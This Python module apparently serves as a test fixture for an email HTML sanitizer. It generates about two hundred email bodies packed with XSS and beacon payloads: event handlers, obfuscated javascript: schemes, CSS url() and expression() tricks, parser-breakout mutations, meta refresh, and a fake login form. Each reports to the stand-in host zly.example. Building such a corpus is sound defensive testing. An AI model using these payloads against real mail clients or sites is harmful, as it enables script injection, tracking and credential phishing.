"""Two hundred mails that try to run, to phone home or to leave their page. Each is one HTML body."""

from collections.abc import Iterator
from html import escape

THERE = "https://zly.example"
RUN = f"console.log('pwned');document.title='pwned';fetch('{THERE}/ran')"
_EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "onanimationstart",
    "ontransitionend",
    "ontoggle",
    "onpointerenter",
    "onwheel",
    "onbeforeprint",
    "onhashchange",
    "onmessage",
    "onpageshow",
    "onscroll",
    "onsubmit",
    "onstart",
    "onbegin",
    "onend",
    "onreadystatechange",
    "oncopy",
    "onauxclick",
    "onbeforetoggle",
    "onscrollend",
]
_HOSTS = (
    "img src=x",
    "svg",
    "body",
    "iframe",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "marquee",
)
_SCRIPTS = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "&#106;avascript:",
            "&#x6A;avascript:", "javascript&colon;", "\x01javascript:", "vbscript:", "data:text/html,<script>", "livescript:",
            "view-source:javascript:", "jav&#x09;ascript:", "jav&#x0A;ascript:", "%6Aavascript:")  # fmt: skip
_CSS = (
    "background:url({t}/c1)", "background-image:url('{t}/c2')", "background:URL({t}/c3)", "background:\\75\\72\\6c({t}/c4)",
    "list-style:url({t}/c5)", "list-style-image:url({t}/c6)", "content:url({t}/c7)", "cursor:url({t}/c8),auto",
    "border-image:url({t}/c9)", "border-image-source:url({t}/c10)", "mask:url({t}/c11)", "filter:url({t}/c12#a)",
    "width:expression({r})", "behavior:url({t}/c13)", "-moz-binding:url({t}/c14#x)", "background:image-set('{t}/c15' 1x)",
    "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999", "background:u/**/rl({t}/c16)",
    "color:red;background:url({t}/c17", "font-family:'x';src:url({t}/c18)", "background:-webkit-cross-fade(url({t}/c19),url(x),50%)",
    "--x:url({t}/c20);background:var(--x)", "offset-path:url({t}/c21)", "clip-path:url({t}/c22)", "shape-outside:url({t}/c23)",
)  # fmt: skip
_SHEETS = (
    "@import url({t}/s1);", "@import '{t}/s2';", "body{{background:url({t}/s3)}}", "@font-face{{font-family:a;src:url({t}/s4)}}p{{font-family:a}}",
    "*{{background:url({t}/s5)!important}}", "</style><script>{r}</script>", "<!--</style><img src=x onerror={r}>-->",
    "@charset 'x';@namespace url({t}/s6);", "input[value^=a]{{background:url({t}/s7)}}", "@page{{background:url({t}/s8)}}",
    "@media all{{p{{background:url({t}/s9)}}}}", "@keyframes a{{from{{background:url({t}/s10)}}}}*{{animation:a 1s}}",
)  # fmt: skip
_PLAIN = (
    "<script>{r}</script>", "<script src={t}/p1></script>", "<scr<script>ipt>{r}</scr</script>ipt>", "<SCRIPT/x>{r}</SCRIPT>",
    "<script type=module>{r}</script>", "<link rel=stylesheet href={t}/p2>", "<link rel=prefetch href={t}/p3>",
    "<link rel=preload as=image href={t}/p4>", "<link rel=dns-prefetch href=//zly.example>", "<link rel=preconnect href={t}>",
    "<link rel=icon href={t}/p5>", "<link rel=modulepreload href={t}/p6>", "<link rel=import href={t}/p7>",
    "<meta http-equiv=refresh content='0;url={t}/p8'>", "<meta http-equiv=refresh content='0;javascript:{r}'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<meta http-equiv=Set-Cookie content='a=b'>",
    "<base href={t}/><img src=p9><a href=p10>x</a>", "<base target=_top><a href=/x>x</a>",
    "<form action={t}/p11><input name=q><button>Zaloguj</button></form>", "<form id=f action={t}/p12></form><button form=f>x</button>",
    "<button formaction='javascript:{r}'>x</button>", "<input type=image src={t}/p13>", "<isindex action={t}/p14>",
    "<iframe src={t}/p15></iframe>", "<iframe srcdoc='<script>{r}</script>'></iframe>", "<frameset><frame src={t}/p16></frameset>",
    "<object data={t}/p17></object>", "<object type=text/html data='javascript:{r}'></object>", "<embed src={t}/p18>",
    "<applet code={t}/p19></applet>", "<portal src={t}/p20></portal>", "<fencedframe src={t}/p21></fencedframe>",
    "<svg><script>{r}</script></svg>", "<svg><image href={t}/p22 /></svg>", "<svg><use href={t}/p23#a /></svg>",
    "<svg><a xlink:href='javascript:{r}'><text y=9>x</text></a></svg>", "<svg><animate onbegin={r} attributeName=x dur=1s>",
    "<svg><set attributeName=href to='javascript:{r}'>", "<svg><foreignObject><iframe src={t}/p24></iframe></foreignObject></svg>",
    "<svg><style>@import '{t}/p25';</style></svg>", "<svg><feImage href={t}/p26 /></svg>",
    "<math><maction actiontype=statusline xlink:href='javascript:{r}'>x</maction></math>",
    "<math href='javascript:{r}'>x</math>", "<math><mtext><table><mglyph><style><img src=x onerror={r}></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={r}>", "<noscript><p title='</noscript><img src=x onerror={r}>'>",
    "<svg></p><style><a id='</style><img src=1 onerror={r}>'>", "<template><img src=x onerror={r}></template>",
    "<template shadowrootmode=open><img src={t}/p27></template>", "<textarea><img title='</textarea><img src=x onerror={r}>'>",
    "<xmp><p title='</xmp><img src=x onerror={r}>'>", "<noembed><p title='</noembed><img src=x onerror={r}>'>",
    "<title><p title='</title><img src=x onerror={r}>'>", "<select><style></select><img src=x onerror={r}>",
    "<!--><img src=x onerror={r}>-->", "<!--[if gte mso 9]><script>{r}</script><![endif]-->", "<![CDATA[<img src=x onerror={r}>]]>",
    "<!--[if !mso]><!--><img src={t}/p28><!--<![endif]-->", "<?xml version=1.0?><script>{r}</script>", "<!DOCTYPE x [<!ENTITY y '{r}'>]>&y;",
    "<img srcset='{t}/p29 2x'>", "<picture><source srcset={t}/p30><img></picture>", "<img src=//zly.example/p31>",
    "<img src='\\\\zly.example\\p32'>", "<img src=https:{t}/p33>", "<img dynsrc={t}/p34 lowsrc={t}/p35>", "<img title='a>b' src={t}/p36>",
    "<table background={t}/p37><td background={t}/p38>x</table>", "<body background={t}/p39>", "<video poster={t}/p40></video>",
    "<video><source src={t}/p41><track src={t}/p42></video>", "<audio src={t}/p43 autoplay></audio>", "<bgsound src={t}/p44>",
    "<a href={t}/p45 ping={t}/p46>x</a>", "<a href={t} target=_top>x</a>", "<a href=/settings/people download>x</a>",
    "<q cite={t}/p47>x</q><blockquote cite={t}/p48>x</blockquote>", "<ins cite='javascript:{r}'>x</ins>", "<img longdesc={t}/p49 src=cid:nic>",
    "<img src=data:image/svg+xml,%3Csvg onload={r}%3E>", "<img src='data:text/html,<script>{r}</script>'>", "<embed src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<a href='data:text/html,<script>{r}</script>'>x</a>", "<div id=stan name=pisanie class='msg agent' data-act data-thread=1>x</div>",
    "<div hx-get={t}/p50 hx-trigger=load>x</div>", "<div data-hx-get={t}/p51 data-hx-trigger=load>x</div>", "<p x-init={r} v-on:click={r}>x</p>",
    "<style>{r}</style", "<img src=x\x00 onerror={r}>", "<img/src=x/onerror={r}>", "<img src='x'onerror={r}>", "<img src=`x`onerror={r}>",
    "<IMG \"\"\"><SCRIPT>{r}</SCRIPT>\">", "+ADw-script+AD4-{r}+ADw-/script+AD4-", "\x3cscript\x3e{r}\x3c/script\x3e",
    "<slot onslotchange={r}></slot>", "<dialog open onclose={r}><form method=dialog><button>x</button></form></dialog>",
    "<custom-element onclick={r} tabindex=0 autofocus>x</custom-element>", "<a id=x tabindex=1 onactivate={r}></a>",
    "<script nonce=''>{r}</script>", "<style nonce=''>@import '{t}/p52'</style>", "<keygen autofocus onfocus={r}>",
)  # fmt: skip


def bodies() -> Iterator[str]:
    """Every body, in a fixed order."""
    words = {"t": THERE, "r": RUN}
    for number, event in enumerate(_EVENTS):
        for host in (_HOSTS[number % len(_HOSTS)], _HOSTS[(number + 4) % len(_HOSTS)]):
            yield f'<{host} {event}="{escape(RUN)}">x</{host.split(" ", maxsplit=1)[0]}>'
    for scheme in _SCRIPTS:
        yield f'<a href="{scheme}{escape(RUN)}">kliknij</a><img src="{scheme}{escape(RUN)}">'
    for style in _CSS:
        yield f'<div style="{escape(style.format(**words))}">x</div>'
    for sheet in _SHEETS:
        yield f"<style>{sheet.format(**words)}</style><p>x</p><input value=abc>"
    for plain in _PLAIN:
        yield plain.format(**words)
